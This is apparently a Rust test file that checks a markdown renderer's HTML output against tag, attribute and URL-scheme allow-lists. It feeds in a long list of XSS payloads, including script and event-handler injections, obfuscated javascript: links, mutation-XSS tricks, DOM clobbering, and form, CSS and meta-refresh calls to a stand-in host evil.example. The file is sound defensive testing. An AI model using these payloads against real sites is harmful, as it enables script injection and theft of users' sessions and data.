//! Nothing that a text holds runs, loads or passes for a part of the window.
//!
//! Longer than 400 lines: its lists of tags and attributes are to be read in one place.

use arguendo_text::markdown::{Setting, render};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use std::cell::RefCell;
use std::collections::HashSet;

const TAGS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "address",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

const ATTRIBUTES: &[&str] = &[
    "align",
    "alt",
    "class",
    "colspan",
    "data-local-kind",
    "data-local-name",
    "datetime",
    "dir",
    "height",
    "href",
    "id",
    "lang",
    "open",
    "reversed",
    "role",
    "rowspan",
    "scope",
    "src",
    "start",
    "title",
    "type",
    "value",
    "width",
];

/// Pieces that would do harm where a browser took them for mark-up.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\" />",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#1; javascript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"content://localhost/../secret\">x</a>",
    "<a href=\"https://example.org/\" target=\"_top\" onclick=\"alert(1)\" ping=\"//evil.example\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"><embed src=\"javascript:alert(1)\"></object>",
    "<form action=\"//evil.example\"><input name=body><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">x</div>",
    "<p style=\"background:url(//evil.example)\">x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x autoplay onplay=alert(1)></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a name=\"body\" id=\"ui-toolbar\" class=\"ui-button svelte-abc\">x</a>",
    "<form name=\"cookie\"><img name=\"getElementById\" id=\"a b\"></form>",
    "<b title='\"><img src=x onerror=alert(1)>'>x</b>",
    "<b title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</b>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img srcset=\"//evil.example/a.png 2x\" src=\"/uploads/a.png\">",
    "<a data-local-kind=\"response\" data-local-name=\"../x\" href=\"https://evil.example/\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<a href=\"java\u{feff}script:alert(1)\">x</a>",
    "<a href=\"\u{200b}javascript:alert(1)\">x</a>",
    "<a href=\"javascript\u{2060}:alert(1)\">x</a>",
    "<a href=\"ja&shy;vascript:alert(1)\">x</a>",
    "<a href=\"java\u{85}script:alert(1)\">x</a>",
    "<img src=\"da\u{fe0f}ta:image/svg+xml,<svg onload=alert(1)>\">",
    "[x](java\u{e0041}script:alert(1))",
    "[x](vb\u{34f}script:alert(1))",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](  JAVASCRIPT:alert(1) \"t\")",
    "[x](java&#10;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "[x](https://example.org 'a\" onclick=\"alert(1)')",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x.png)",
    "![x](x.png \"t\\\" onerror=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "<mailto:a@b.c\"onclick=\"alert(1)>",
    "[x][js]\n\n[js]: javascript:alert(1)",
    "x{: onclick=\"alert(1)\"}",
    "*x*{: onclick=\"alert(1)\" style=\"color:red\" href=\"javascript:alert(1)\" src=\"x\"}",
    "[x](https://example.org){: href=\"javascript:alert(1)\" onclick='alert(1)'}",
    "![x](x.png){: onerror=\"alert(1)\" srcset=\"//evil.example 2x\"}",
    "*x*{: id=\"ui-dialog\" class=\"ui-dialog svelte-1\" name=\"location\"}",
    "`<script>alert(1)</script>`",
    "{{ \"<script>alert(1)</script>\" }}",
    "{% raw %}<img src=x onerror=alert(1)>{% endraw %}",
    "$$<img src=x onerror=alert(1)>$$",
    "{::nomarkdown}<img src=x onerror=alert(1)><script>alert(1)</script>{:/}",
    "*[x]: \"><img src=x onerror=alert(1)>\n\nx",
];

/// Places in a text where each of them is put.
const PLACES: &[&str] = &[
    "@",
    "word @ word",
    "# @",
    "> @",
    "- @",
    "term\n: @",
    "| a |\n|---|\n| @ |",
    "note[^1]\n\n[^1]: @",
    "<div>@</div>",
    "<div markdown=\"1\">\n@\n</div>",
    "<table>@</table>",
    "<p markdown=\"span\">@</p>",
    "*@*",
    "[@](https://example.org)",
    "[x](https://example.org \"@\")",
    "[x](@)",
    "![@](x.png)",
    "<b title=\"@\">x</b>",
    "text\n{: title=\"@\"}",
    "```\n@\n```",
    "<pre>@",
    "<svg>@",
    "<math><annotation-xml encoding=\"text/html\">@",
];

#[derive(Default)]
struct Sink(RefCell<Vec<Tag>>);

impl TokenSink for Sink {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        if let Token::TagToken(tag) = token {
            self.0.borrow_mut().push(tag);
        }
        TokenSinkResult::Continue
    }
}

/// Panics where `html` holds anything but what a reading page needs.
fn assert_is_safe(html: &str, source: &str) {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Sink::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    for tag in tokenizer.sink.0.into_inner() {
        assert!(
            TAGS.contains(&&*tag.name),
            "<{}> in {html} from {source}",
            tag.name
        );
        for attribute in tag.attrs.iter().filter(|_| tag.kind == TagKind::StartTag) {
            let (name, value) = (&*attribute.name.local, attribute.value.to_ascii_lowercase());
            assert!(ATTRIBUTES.contains(&name), "{name} in {html} from {source}");
            let is_harmless = match name {
                "href" => has_scheme(&value, &["http", "https", "mailto"]),
                "src" => has_scheme(&value, &["http", "https"]),
                "id" => !value.starts_with("ui-") && !value.contains(' '),
                "class" => !value
                    .split(' ')
                    .any(|class| class.starts_with("ui-") || class.starts_with("svelte-")),
                "data-local-name" => !value.contains(['/', '\\']),
                _ => true,
            };
            assert!(is_harmless, "{name}=\"{value}\" in {html} from {source}");
        }
    }
}

/// Some of the marks that nobody sees.
const INVISIBLE: &[char] = &[
    '\u{ad}',
    '\u{34f}',
    '\u{200b}',
    '\u{2060}',
    '\u{fe0f}',
    '\u{feff}',
    '\u{e0041}',
];

/// Whether an address has one of these schemes or none, as a browser reads it and as a person does.
fn has_scheme(address: &str, schemes: &[&str]) -> bool {
    let address: String = address
        .chars()
        .filter(|c| !c.is_control() && !INVISIBLE.contains(c))
        .collect();
    let address = address.trim_start_matches(|c: char| c <= ' ');
    let is_in_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
    match address.split_once(':') {
        Some((scheme, _)) if scheme.chars().all(is_in_scheme) => schemes.contains(&scheme),
        _ => true,
    }
}

#[test]
fn no_vector_does_harm_in_any_place() {
    for vector in VECTORS {
        for place in PLACES {
            let source = place.replace('@', vector);
            let html = render(&source, Setting::default()).html;
            assert_is_safe(&html, &source);
        }
    }
}

#[test]
fn html_that_is_read_again_stays_as_it_is() {
    for vector in VECTORS {
        for place in PLACES {
            let html = render(&place.replace('@', vector), Setting::default()).html;
            let once = reparsed(&html);
            assert_eq!(reparsed(&once), once, "{html}");
            assert_is_safe(&once, &html);
        }
    }
}

/// `html` parsed into a tree and written again, with the scripts and styles that the tree may hold.
fn reparsed(html: &str) -> String {
    let mut keep_all = ammonia::Builder::empty();
    keep_all.clean_content_tags(HashSet::new());
    keep_all
        .add_tags(TAGS)
        .add_generic_attributes(ATTRIBUTES)
        .add_tags(["script", "style", "svg", "math", "iframe"]);
    keep_all.add_generic_attribute_prefixes(["on"]).link_rel(None);
    keep_all.add_url_schemes(["http", "https", "mailto", "javascript", "data", "file"]);
    keep_all.clean(html).to_string()
}

#[test]
fn the_window_loads_nothing_from_the_web() {
    let setting = Setting {
        site_url: None,
        image_base: Some("content://localhost/"),
    };
    let source = "![A](https://evil.example/a.png) ![](//evil.example/b.png) <img src=\"http://evil.example/c.png\" alt=C>\n\n\
        <iframe src=\"https://www.youtube.com/embed/x\"></iframe>\n\n[![D](https://evil.example/d.png)](/arguendo/e/)\n\n\
        ![Here](/uploads/a b.png) <video src=\"//evil.example/v.mp4\"></video>";
    let html = render(source, setting).html;
    assert_eq!(html.matches("<img").count(), 1, "{html}");
    assert!(
        html.contains("src=\"content://localhost/uploads/a%20b.png\""),
        "{html}"
    );
    assert!(html.contains("Image on the web: A</a>"), "{html}");
    assert!(html.contains("Image on the web: evil.example</a>"), "{html}");
    assert!(html.contains("On the web: www.youtube.com</a>"), "{html}");
    assert!(
        html.contains("<span class=\"web-image\">Image on the web: D</span></a>"),
        "{html}"
    );
}

#[test]
fn links_to_the_sites_own_pages_say_which_document_they_open() {
    let setting = Setting {
        site_url: Some("https://www.example.org"),
        image_base: None,
    };
    let html = render(
        "[a](http://example.org/arguendo/on-deference/#part) <a href=\"/contributors/jane\" data-local-name=\"x\">b</a>",
        setting,
    )
    .html;
    assert!(
        html.contains("href=\"http://example.org/arguendo/on-deference/#part\" data-local-kind=\"response\" data-local-name=\"on-deference\""),
        "{html}"
    );
    assert!(
        html.contains("data-local-kind=\"contributor\" data-local-name=\"jane\""),
        "{html}"
    );
    assert!(!html.contains("data-local-name=\"x\""), "{html}");
}

#[test]
fn tags_of_liquid_are_shown_and_the_sites_address_is_filled_in() {
    let setting = Setting {
        site_url: Some("https://example.org"),
        image_base: Some("content://localhost/"),
    };
    let html = render(
        "{% include chart.html %} [a]({{ site.url }}/arguendo/a/) ![]({{site.baseurl}}/b.png)",
        setting,
    )
    .html;
    assert!(html.contains("<span class=\"liquid\""), "{html}");
    assert!(html.contains(">{% include chart.html %}</span>"), "{html}");
    assert!(
        html.contains("href=\"https://example.org/arguendo/a/\" data-local-kind=\"response\""),
        "{html}"
    );
    assert!(html.contains("src=\"content://localhost/b.png\""), "{html}");
}
